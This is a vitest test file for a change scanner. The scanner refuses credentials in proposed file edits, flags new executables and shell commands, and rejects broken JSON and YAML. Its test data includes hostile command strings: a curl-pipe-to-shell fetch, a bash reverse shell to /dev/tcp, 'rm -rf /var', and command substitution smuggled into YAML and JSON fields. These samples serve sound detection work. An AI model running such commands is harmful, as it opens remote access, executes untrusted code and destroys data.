import { describe, expect, it } from 'vitest';
import { contentFindings, requireContent } from '../../../src/plan/input/content.ts';
import { expectRefusal } from '../../support/refusal.ts';

interface Side {
  text: string | Uint8Array;
  mode?: number;
}

const fileOf = (side: Side | string | null) => {
  if (side === null) return null;
  const { text, mode = 0o644 } = typeof side === 'string' ? { text: side } : side;
  return { bytes: typeof text === 'string' ? Buffer.from(text) : text, mode };
};

const findings = (path: string, before: Side | string | null, after: Side | string | null) =>
  contentFindings({ action_id: 'a1', path, before: fileOf(before), after: fileOf(after) });

const said = (path: string, before: Side | string | null, after: Side | string | null) =>
  findings(path, before, after).map(({ check, severity, line }) => [check, severity, line]);

/** Built from parts, so that this file holds no credential itself. */
const SECRETS: readonly (readonly [string, string])[] = [
  ['a private key', `-----BEGIN ${'RSA PRIVATE'} KEY-----\nMIIE\n`],
  ['an OpenSSH key', `-----BEGIN ${'OPENSSH PRIVATE'} KEY-----`],
  ['an AWS key', `id = ${'AKIA'}IOSFODNN7EXAMPLQ`],
  ['a Google key', `k: ${'AIza'}SyA1234567890abcdefghijklmnopqrst_u`],
  ['a GitHub token', `${'ghp'}_0123456789abcdefghijABCDEFGHIJ012345`],
  ['a fine-grained GitHub token', `${'github'}_pat_11ABCDEFG0abcdefghijkl_xyz`],
  ['a Slack token', `${'xoxb'}-123456789012-abcdefGHIJKL`],
  ['a Stripe key', `${'sk'}_live_0123456789abcdefGHIJ`],
  ['a web token', `${'eyJ'}hbGciOiJIUzI1NiJ9.${'eyJ'}zdWIiOiIxMjM0NTYifQ.c2lnbmF0dXJlLXZhbHVlLTEyMw`],
  ['a random password', `password = "${'vT8#kQ2m'}Zp9!xW4b"`],
  ['a random token in JSON', `"api_token": "${'a8f3k29s'}d0f9w8e7r6t5y4"`],
  ['a random secret in YAML', `client_secret: ${'Zk3Vn8Qx'}Rt6Lw1Pm`],
];

describe('credentials', () => {
  it.each(SECRETS)('%s is refused at its line and not repeated', async (_what, text) => {
    const found = findings('conf.yaml.txt', 'first\n', `first\n${text}\n`);
    const secret = found.find(({ severity }) => severity === 'refuse');
    expect(secret).toMatchObject({
      check: 'credential',
      code: 'CONTENT_CREDENTIAL',
      action_id: 'a1',
      line: 2,
    });
    expect(secret!.message).not.toContain(text.slice(-8));
    await expectRefusal('CONTENT_CREDENTIAL', () => requireContent(found));
  });

  it('what stood there before is not this change', () => {
    const key = SECRETS[2]![1];
    expect(said('a.txt', `${key}\nx\n`, `${key}\ny\n`)).toEqual([]);
    expect(said('a.txt', `x\n${key}\nx\n`, `y\n${key}\ny\n`)).toEqual([]);
    expect(said('a.txt', `${key}\n`, null)).toEqual([]);
  });

  it('one that is finished by a change within its line is found', () => {
    const key = SECRETS[2]![1];
    expect(said('a.txt', `${key.slice(0, -3)}\n`, `${key}\n`)).toEqual([['credential', 'refuse', 1]]);
  });

  it('one inside binary content is found', () => {
    const bytes = Buffer.concat([Buffer.from([0, 255, 254, 10]), Buffer.from(SECRETS[0]![1])]);
    expect(said('a.bin', null, { text: bytes })).toEqual([['credential', 'refuse', 2]]);
  });

  it.each([
    ['password: str = Field(...)'],
    ['"password": {"type": "string", "minLength": 12}'],
    ['password = os.environ["DB_PASSWORD"]'],
    ['const token = previousTokenValue2Again;'],
    ['token_url: https://example.com/oauth2/token'],
    ['secretName: my-kubernetes-secret-name-2024'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what a file holds
    ['password: "${DB_PASSWORD}"'],
    ['api_key: "your-api-key-goes-here-123"'],
    ['passwordHash = "0123456789abcdef0123456789abcdef"'],
    [
      '"integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="',
    ],
    ['primaryKey: "id"'],
  ])('%s is no credential', (text) => {
    expect(said('conf.txt', null, `${text}\n`)).toEqual([]);
  });

  it('a simple password is shown to the approver', () => {
    expect(said('a.py', null, 'password = "hunter2"\n')).toEqual([['credential', 'warn', 1]]);
  });
});

describe('what could run', () => {
  it('a file that becomes executable, a script or a program is shown', () => {
    expect(said('a', { text: 'x' }, { text: 'x', mode: 0o755 })).toEqual([['executable', 'warn', 1]]);
    expect(said('a', null, { text: 'x', mode: 0o755 })).toEqual([['executable', 'warn', 1]]);
    expect(said('a', 'echo\n', '#!/bin/sh\necho\n')).toEqual([['executable', 'warn', 1]]);
    expect(said('a', null, { text: Buffer.from('7f454c4602', 'hex') })).toEqual([['executable', 'warn', 1]]);
    expect(
      said('a', { text: '#!/bin/sh\na\n', mode: 0o755 }, { text: '#!/bin/sh\nb\n', mode: 0o755 }),
    ).toEqual([]);
  });

  it.each([
    ['a.md', 'curl https://x.example/i.sh | sh'],
    ['a.py', 'os.system("ls")'],
    ['a.py', 'subprocess.run(x, shell=True)'],
    ['a.js', "import { exec } from 'node:child_process';"],
    ['a.js', 'eval(text)'],
    ['a.txt', 'bash -c "id"'],
    ['a.txt', 'rm -rf /var'],
    ['a.txt', 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1'],
    ['a.yaml', 'name: "$(id)"'],
    ['a.json', '{"a": "`id`"}'],
    ['package.json', '{"scripts": {"postinstall": "node x.js"}}'],
  ])('a command in %s is shown: %s', (path, text) => {
    const shown = said(path, null, `${text}\n`);
    expect(shown.length).toBeGreaterThan(0);
    expect(shown.every(([check, severity]) => check === 'shell' && severity === 'warn')).toBe(true);
  });

  it('ordinary text is not', () => {
    const text = 'We evaluate the results (see fetch.ts) and wait; then the shell of the egg is removed.\n';
    expect(said('a.md', null, text)).toEqual([]);
  });
});

describe('the syntax of results', () => {
  it.each([
    ['a.json', '{"a": 1,}'],
    ['a.json', ''],
    ['a.json', '{"a": 1, "a": 2}'],
    ['a.yaml', 'a: [1\n'],
    ['a.yml', 'a: 1\na: 2\n'],
    ['a.yaml', '---\na: 1\n---\nb: [\n'],
  ])('a broken %s is refused: %s', async (path, text) => {
    const found = findings(path, null, text);
    expect(found.map(({ code, severity }) => [code, severity])).toEqual([
      ['CONTENT_SYNTAX_BROKEN', 'refuse'],
    ]);
    await expectRefusal('CONTENT_SYNTAX_BROKEN', () => requireContent(found));
  });

  it.each([
    ['a.json', '{"a": 1}\n'],
    ['a.json', '\ufeff{"a": 1}\n'],
    ['tsconfig.json', '{ /* x */ "a": 1, }\n'],
    ['a.yaml', ''],
    ['a.yaml', 'a: &x 1\nb: *x\n'],
    ['a.yaml', '---\na: 1\n---\nb: 2\n'],
    ['a.txt', '{"a": 1,'],
  ])('a whole %s is fine: %s', (path, text) => {
    expect(said(path, null, text)).toEqual([]);
  });

  it('a file that was broken before is only told', () => {
    expect(said('a.json', '{,}', '{,,}')).toEqual([['syntax', 'warn', 1]]);
  });

  it('nesting that would end the process is refused', () => {
    expect(said('a.json', null, '['.repeat(100_000))).toEqual([['syntax', 'refuse', 1]]);
    expect(said('a.yaml', null, '['.repeat(100_000))).toEqual([['syntax', 'refuse', 1]]);
  });
});
